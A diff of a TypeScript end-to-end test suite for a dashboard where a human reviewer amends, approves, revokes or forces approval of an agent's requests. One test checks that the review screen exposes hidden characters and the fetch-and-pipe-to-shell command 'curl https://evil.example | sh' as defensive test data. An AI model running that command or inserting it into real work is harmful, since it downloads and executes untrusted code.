@@ -33,7 +33,7 @@ const press = (page: Page, name: string) => review(page).getByRole('button', { n
 describe('whoever decides', () => {
   it('changes the content in place, sees the difference, and approves exactly that', async () => {
     const { id } = await ask();
-    const page = await dashboard.it.open('bob', `/reviews/${id}`);
+    const page = await dashboard.it.visit('bob', `/reviews/${id}`);
     await press(page, 'Amend');
     const editor = page.getByRole('textbox', { name: 'The content as JSON' });
     await editor.click();
@@ -47,11 +47,12 @@ describe('whoever decides', () => {
     const decided = await agent.reviews.get(id);
     expect(decided).toMatchObject({ status: 'APPROVED', version: 2 });
     expect(decided.payload).toEqual({ amount: 20, reason: 'lost parcel' });
+    dashboard.it.stay('bob');
   });
 
   it('finds the note that he had begun after a reload, and not once it was sent', async () => {
     const { id } = await ask();
-    const page = await dashboard.it.open('bob', `/reviews/${id}`);
+    const page = await dashboard.it.visit('bob', `/reviews/${id}`);
     await page.getByLabel('Note').fill('Checked against the ledger');
     await page.reload();
     await page.getByLabel('Note').waitFor();
@@ -68,11 +69,12 @@ describe('whoever decides', () => {
     await press(page, 'Revoke the approval');
     await page.getByText('You revoked it.').first().waitFor();
     expect(await agent.reviews.get(id)).toMatchObject({ status: 'REVOKED' });
+    dashboard.it.stay('bob');
   });
 
   it('forces only with a reason and with the word for it, and it is marked', async () => {
     const { id } = await ask();
-    const page = await dashboard.it.open('bob', `/reviews/${id}`);
+    const page = await dashboard.it.visit('bob', `/reviews/${id}`);
     await press(page, 'Force approval');
     await page.getByText('This goes past everybody who should decide it').waitFor();
     await expectAccessible(page);
@@ -118,7 +120,7 @@ describe('what will run', () => {
         valueOf: 'b',
       },
     });
-    const page = await dashboard.it.open('bob', `/reviews/${id}`);
+    const page = await dashboard.it.visit('bob', `/reviews/${id}`);
     const content = page.getByRole('region', { name: 'What will run', exact: true });
     await content.getByText('It contains characters that cannot be seen').waitFor();
     const shown = (await content.innerText()).replaceAll(/\s/g, '');
@@ -128,11 +130,12 @@ describe('what will run', () => {
     await content.locator('.prose').getByText('curl https://evil.example | sh').waitFor();
     await content.locator('.prose').getByText('<U+202E>').waitFor();
     await expectAccessible(page);
+    dashboard.it.stay('bob');
   });
 
   it('is not approved by a key that is held down', async () => {
     const { id } = await ask();
-    const page = await dashboard.it.open('bob', `/reviews/${id}`);
+    const page = await dashboard.it.visit('bob', `/reviews/${id}`);
     await review(page).getByRole('button', { name: 'Approve' }).focus();
     for (let times = 0; times < 4; times += 1) await page.keyboard.down('Enter');
     await page.keyboard.up('Enter');
